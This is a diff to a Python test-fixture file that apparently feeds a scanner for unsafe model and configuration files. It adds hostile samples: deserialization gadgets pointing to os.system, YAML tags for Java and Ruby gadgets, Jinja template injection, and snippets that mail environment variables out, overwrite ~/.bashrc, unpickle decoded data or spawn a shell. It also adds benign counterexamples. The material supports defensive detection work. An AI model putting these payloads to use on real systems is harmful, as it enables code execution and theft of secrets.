@@ -73,6 +73,7 @@ def settings() -> Iterator[Sample]:
         {"hidden_act": "os.system"},
         {"type": "subprocess.Popen", "args": "echo"},
         {"entry_point": "os:system"},
+        {"function": {"__module__": "os", "__name__": "system"}},
         {"call": {"module": "os", "name": "system"}},
         {"script": "from os import system\nsystem('echo')"},
         {"url": "http://169.254.169.254/latest/meta-data/"},
@@ -93,6 +94,18 @@ def settings() -> Iterator[Sample]:
         yield "conf.yaml", b"m: {_target_: os.system}\n".decode().encode(encoding)
     yield "rows.jsonl", b'{"a": 1}\n{"py/reduce": [{"py/type": "os.system"}]}\n'
     yield "logging.conf", b"[handler_h]\nclass=os.system\nargs=('echo',)\n"
+    for tagged in (
+        "!!javax.script.ScriptEngineManager [x]",
+        "--- !ruby/object:Gem::Installer",
+        "a: !!js/function 'x'",
+    ):
+        yield "environment.conf", f"{tagged}\n".encode()
+    yield "train.prototxt", b'layer {\n  name: "x"\n  type: "Python"\n  python_param { module: "evil" }\n}\n'
+    yield "readme_template.md", b"Hello {{ ''.__class__.__mro__ }}"
+    yield "license_plates.conf", b"m: {_target_: os.system}\n"
+    for included in ("{% import 'os' as os %}", "{% include 'other.jinja' %}"):
+        yield "chat_template.jinja", included.encode()
+        yield "tokenizer_config.json", json.dumps({"chat_template": included}).encode()
     yield "config.toml", b"bad = [\n_target_ = 'os.system'\n"
     yield ".env", b"LD_PRELOAD=/tmp/x.so\n"
     yield (
@@ -149,6 +162,10 @@ def source() -> Iterator[Sample]:
         "print()\n" + "#" * 1_100_000 + "\nimport os; os.system('echo')\n",
         "x = [" + "1," * 110_000 + "]\n",
         "x = 1\n" * 200_000,
+        "from multiprocessing import util\nutil.spawnv_passfds(b'sh', [], [])\n",
+        "import os, smtplib\nsmtplib.SMTP('x').sendmail('a', 'b', str(os.environ))\n",
+        "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')\n",
+        "import codecs, pickle\npickle.loads(codecs.decode('x', 'base64'))\n",
         "import os\nmatch os:\n  case object(system=s): s('echo')\n",
         "import keras\nkeras.config.enable_unsafe_deserialization()\n",
     ):
@@ -252,7 +269,14 @@ def programs() -> Iterator[Sample]:
     for program in (elf, windows):
         yield "a.bin", bytes(5000) + program
         yield "a.png", b"\x89PNG\r\n\x1a\n" + bytes(64) + program
-    for image in (b"MSWIM\0\0\0", b"QFI\xfb", b"\x21\0-lh5-", bytes(32_769) + b"CD001", bytes(512) + b"koly"):
+    for image in (
+        bytes(7) + b"**ACE**",
+        b"MSWIM\0\0\0",
+        b"QFI\xfb",
+        b"\x21\0-lh5-",
+        bytes(32_769) + b"CD001",
+        bytes(512) + b"koly",
+    ):
         yield "model.bin", image + bytes(508)
     for start in (b"BC\xc0\xde", b"\x1bLuaS", b"YARB", b"dex\n035\0", b"!<arch>\n"):
         yield "model.bin", start + bytes(200)
@@ -263,6 +287,12 @@ def models() -> Iterator[Sample]:
     yield "a.npy", npy("{'descr': '<f8', 'fortran_order': 1, 'shape': (1,)}")
     yield "config.json", layer("TensorFlowOpLayer", node_def='{"op": "PyFunc"}')
     yield "config.json", layer("SlicingOpLambda", function="py_function")
+    yield "config.json", layer("ClassMethod", cls_ref="os.system", method_name="x")
+    yield (
+        "config.json",
+        json.dumps({"class_name": "os>system", "config": {}, "registered_name": "os>system"}).encode(),
+    )
+    yield "model.h5", b"#!/bin/sh\necho\n".ljust(512, b"\0") + b"\x89HDF\r\n\x1a\n" + bytes(100)
     graph = 'node {\n  name: "w"\n  op: "WriteFile"\n}\n'
     yield "graph.pb.txt", graph.encode()
     yield "saved_model.pbtxt", b'meta_graphs { graph_def { node { name: "a" op: "Py\\106unc" } } }'
@@ -293,6 +323,14 @@ def honest() -> Iterator[Sample]:
     yield "a.pdf", pdf(b"<</AcroForm<</Fields[]>>>>")
     yield "config.yaml", b"x: &a torch.optim.AdamW\nm:\n  _target_: *a\n  lr: 0.1\n"
     yield "train.yaml", b"base_model: org/model\ntrust_remote_code: true\n"
+    yield "config.yaml", b"a: !include other.yaml\n"
+    yield (
+        "classes.json",
+        b'{"policy": {"__module__": "stable_baselines3.ppo.policies", "__name__": "MlpPolicy"}}',
+    )
+    yield "deploy.prototxt", b'layer {\n  name: "c"\n  type: "Convolution"\n  bottom: "data"\n}\n'
+    yield "README.de.md", b"# Modell\n{{ x }}\n"
+    yield "system.j2", b"{% include 'other.j2' %}{{ text }}"
     yield "config.yaml", b"data: {_target_: datasets.load_dataset, path: org/set}\n"
     yield "config.yaml", b"net: {_target_: timm.create_model, model_name: resnet18}\n"
     yield (
@@ -317,7 +355,8 @@ def honest() -> Iterator[Sample]:
         (
             b"import os, inspect, requests\ntoken = os.environ['TOKEN']\n"
             b"requests.get('http://host', headers={'a': os.environ['TOKEN']})\nopen('model.bin', 'rb')\n"
-            b"getattr(self, 'x')\nvars(self)\n"
+            b"getattr(self, 'x')\nvars(self)\nPath('out').joinpath('a.txt').write_text('x')\n"
+            b"connect().send(b'x')\n"
         ),
     )
     yield "model.py", "# -*- coding: latin-1 -*-\nx = 'é'\nπ = 3\n".encode()
